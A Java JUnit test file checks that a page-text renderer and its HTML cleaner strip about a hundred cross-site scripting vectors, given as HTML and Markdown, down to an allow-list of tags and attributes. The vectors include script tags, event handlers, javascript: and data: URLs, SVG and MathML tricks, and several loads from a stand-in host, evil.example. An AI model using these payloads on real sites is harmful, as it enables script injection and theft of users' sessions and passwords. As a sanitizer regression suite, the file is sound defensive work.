package io.cohorte.content;

import static org.assertj.core.api.Assertions.assertThat;

import java.util.List;
import java.util.Set;
import java.util.stream.Stream;
import org.jsoup.Jsoup;
import org.jsoup.nodes.Attribute;
import org.jsoup.nodes.Document;
import org.jsoup.nodes.Element;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.MethodSource;

/** Ways to bring a script into a text: of each, what a browser would read is looked at, by elements and attributes. */
class PageTextXssTests {

    private static final String FILES = "/files-of-the-page";
    private static final String FILE = "files/0190a1b2-0000-7000-8000-0123456789ab";

    private static final Set<String> ELEMENTS = Set.of(
            "html",
            "head",
            "body",
            "h2",
            "h3",
            "h4",
            "h5",
            "h6",
            "p",
            "br",
            "hr",
            "blockquote",
            "pre",
            "code",
            "em",
            "strong",
            "del",
            "ul",
            "ol",
            "li",
            "a",
            "img",
            "table",
            "thead",
            "tbody",
            "tr",
            "th",
            "td");

    private static final Set<String> ATTRIBUTES = Set.of("href", "rel", "title", "src", "alt", "align", "start");

    static Stream<String> html() {
        return Stream.of(
                "<script>alert(1)</script>",
                "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
                "<scr<script>ipt>alert(1)</scr</script>ipt>",
                "<script/random>alert(1)</script>",
                "<<SCRIPT>alert(1);//<</SCRIPT>",
                "<script\n>alert(1)</script\n>",
                "<img src=x onerror=alert(1)>",
                "<img src=x OnErRoR = 'alert(1)'>",
                "<img/src=x/onerror=alert(1)>",
                "<img src=\"javascript:alert(1)\">",
                "<img src=`javascript:alert(1)`>",
                "<img src=x:x onerror\t=\talert(1)>",
                "<img \"\"\"><script>alert(1)</script>\">",
                "<img srcset=\"https://evil.example/x 1x\" src=\"" + FILE + "\">",
                "<img src=\"" + FILE + "\" onload=alert(1)>",
                "<img src=\"" + FILE + "#javascript:alert(1)\">",
                "<img lowsrc=\"javascript:alert(1)\" dynsrc=\"javascript:alert(1)\">",
                "<a href=\"javascript:alert(1)\">x</a>",
                "<a href=\"JaVaScRiPt:alert(1)\">x</a>",
                "<a href=\"jav\tascript:alert(1)\">x</a>",
                "<a href=\"jav&#x09;ascript:alert(1)\">x</a>",
                "<a href=\"jav&#x0A;ascript:alert(1)\">x</a>",
                "<a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">x</a>",
                "<a href=\"&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)\">x</a>",
                "<a href=\"&#0000106avascript:alert(1)\">x</a>",
                "<a href=\" &#14;  javascript:alert(1)\">x</a>",
                "<a href=\"\u0001javascript:alert(1)\">x</a>",
                "<a href=\"javascript&colon;alert(1)\">x</a>",
                "<a href=\"vbscript:msgbox(1)\">x</a>",
                "<a href=\"data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==\">x</a>",
                "<a href=\"https://a.example\" onclick=alert(1) onmouseover=alert(1)>x</a>",
                "<a href=\"https://a.example\" target=_blank ping=https://evil.example>x</a>",
                "<a href=https://a.example/\"onmouseover=\"alert(1)>x</a>",
                "<a style=\"position:fixed;inset:0\" href=\"https://evil.example\">x</a>",
                "<svg onload=alert(1)>",
                "<svg><script>alert(1)</script></svg>",
                "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
                "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
                "<svg><use href=\"data:image/svg+xml,<svg id=x onload=alert(1)>#x\">",
                "<svg><style><img src=x onerror=alert(1)></style></svg>",
                "<math><mi xlink:href=\"javascript:alert(1)\">x</mi></math>",
                "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
                "<math href=\"javascript:alert(1)\">x</math>",
                "<style>@import 'https://evil.example/x.css';</style>",
                "<style>*{background:url(javascript:alert(1))}</style>",
                "<p style=\"background:url(https://evil.example)\">x</p>",
                "<div style=\"width:expression(alert(1))\">x</div>",
                "<link rel=stylesheet href=https://evil.example/x.css>",
                "<iframe src=\"javascript:alert(1)\"></iframe>",
                "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
                "<frameset><frame src=\"javascript:alert(1)\"></frameset>",
                "<object data=\"javascript:alert(1)\"></object>",
                "<embed src=\"data:image/svg+xml,<svg onload=alert(1)>\">",
                "<applet code=x></applet>",
                "<base href=\"https://evil.example/\">",
                "<meta http-equiv=refresh content=\"0;url=javascript:alert(1)\">",
                "<form action=\"https://evil.example\"><input name=password><button formaction=\"javascript:alert(1)\">x",
                "<input autofocus onfocus=alert(1)>",
                "<select autofocus onfocus=alert(1)>",
                "<textarea autofocus onfocus=alert(1)>",
                "<details open ontoggle=alert(1)>",
                "<video src=x onerror=alert(1)><source onerror=alert(1)></video>",
                "<audio src=x onerror=alert(1)>",
                "<marquee onstart=alert(1)>x</marquee>",
                "<body onload=alert(1)>",
                "<table background=\"javascript:alert(1)\"><td background=\"javascript:alert(1)\">",
                "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
                "<template><img src=x onerror=alert(1)></template>",
                "<xmp><img src=x onerror=alert(1)></xmp>",
                "<title><img src=x onerror=alert(1)></title>",
                "<!--><img src=x onerror=alert(1)>-->",
                "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
                "<![CDATA[<img src=x onerror=alert(1)>]]>",
                "<?xml version=\"1.0\"?><x:script xmlns:x=\"http://www.w3.org/1999/xhtml\">alert(1)</x:script>",
                "<x onclick=alert(1) id=location name=cookie>x</x>",
                "<p id=outline-form class=dialog hx-get=/logout hx-trigger=load data-guard>x</p>",
                "\u0000<script\u0000>alert(1)</script>",
                "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
                "</div></main><script>alert(1)</script>");
    }

    static Stream<String> markdown() {
        List<String> targets = List.of(
                "javascript:alert(1)",
                "JAVASCRIPT:alert(1)",
                "<javascript:alert(1)>",
                "&#106;avascript:alert(1)",
                "javascript&colon;alert(1)",
                "java&Tab;script:alert(1)",
                "<java\tscript:alert(1)>",
                "\\javascript:alert(1)",
                "javascript&#58;alert(1)",
                "javascript:%61lert(1)",
                "vbscript:msgbox(1)",
                "data:text/html;base64,PHNjcmlwdD4=",
                "//evil.example\"onmouseover=\"alert(1)",
                "https://a.example/\"onmouseover=alert(1)//",
                "<https://a.example/\" onmouseover=\"alert(1)>",
                "file:///etc/passwd",
                FILE + "\"onerror=\"alert(1)",
                "<" + FILE + "\" onerror=\"alert(1)>");
        return Stream.of(
                        targets.stream().map(it -> "[x](" + it + ")"),
                        targets.stream().map(it -> "![x](" + it + ")"),
                        targets.stream().map(it -> "[x][y]\n\n[y]: " + it),
                        targets.stream().map(it -> "![x][y]\n\n[y]: " + it),
                        targets.stream().map(it -> "[![x](" + it + ")](" + it + ")"),
                        Stream.of(
                                "<javascript:alert(1)>",
                                "<https://a.example/\"onmouseover=alert(1)>",
                                "https://a.example/\"onmouseover=\"alert(1)",
                                "https://a.example/<script>alert(1)</script>",
                                "[x](https://a.example \"\\\"onmouseover=\\\"alert(1)\")",
                                "[x](https://a.example '\" onmouseover=\"alert(1)')",
                                "![\" onerror=\"alert(1)](" + FILE + ")",
                                "![x](" + FILE + " \"\\\" onerror=\\\"alert(1)\")",
                                "```\"><script>alert(1)</script>\nx\n```",
                                "```js\" onclick=\"alert(1)\nx\n```",
                                "`</code><script>alert(1)</script>`",
                                "    </pre><script>alert(1)</script>",
                                "| a |\n|:-:\" onclick=alert(1)|\n| <script>alert(1)</script> |",
                                "# <img src=x onerror=alert(1)>",
                                "1\" onclick=\"alert(1). x",
                                "[x]: javascript:alert(1)\n[x]"))
                .flatMap(it -> it);
    }

    static Stream<String> all() {
        return Stream.concat(html(), markdown());
    }

    @ParameterizedTest
    @MethodSource("all")
    void letsNoScriptThroughAText(String vector) {
        isHarmless(PageText.html("Antes\n\n" + vector + "\n\nDespués", FILES));
        isHarmless(PageText.html("Antes " + vector + " *después*", FILES));
    }

    /** The second guard by itself: as if HTML in a text were not shown as typed. */
    @ParameterizedTest
    @MethodSource("html")
    void letsNoScriptThroughTheCleaning(String vector) {
        isHarmless(PageText.clean(vector, FILES));
        isHarmless(PageText.clean("<p>a " + vector, FILES));
    }

    @Test
    void wouldSeeAScriptThatCameThrough() {
        long seen = html().filter(it -> !offences(Jsoup.parseBodyFragment(it)).isEmpty())
                .count();

        assertThat(html().count()).isGreaterThan(40);
        assertThat(seen).as("vectors that are told apart").isGreaterThan(html().count() - 8);
    }

    private static void isHarmless(String html) {
        // Read as a browser does, and read again as it was written: no meaning comes by reading.
        Document once = Jsoup.parseBodyFragment(html);
        assertThat(offences(once)).as(html).isEmpty();
        assertThat(offences(Jsoup.parseBodyFragment(once.body().html())))
                .as(html)
                .isEmpty();
    }

    private static List<String> offences(Document page) {
        return page.getAllElements().stream()
                .filter(it -> it != page)
                .flatMap(PageTextXssTests::offences)
                .toList();
    }

    private static Stream<String> offences(Element element) {
        Stream<String> itself =
                ELEMENTS.contains(element.normalName()) ? Stream.empty() : Stream.of(element.normalName());
        return Stream.concat(
                itself,
                element.attributes().asList().stream()
                        .filter(it -> !isAllowed(it))
                        .map(it -> element.normalName() + " " + it));
    }

    private static boolean isAllowed(Attribute attribute) {
        return ATTRIBUTES.contains(attribute.getKey())
                && switch (attribute.getKey()) {
                    case "href" -> attribute.getValue().matches("(?is)(https?://|mailto:).*");
                    case "src" -> attribute.getValue().matches("\\Q" + FILES + "\\E/[0-9a-f-]{36}");
                    default -> true;
                };
    }
}
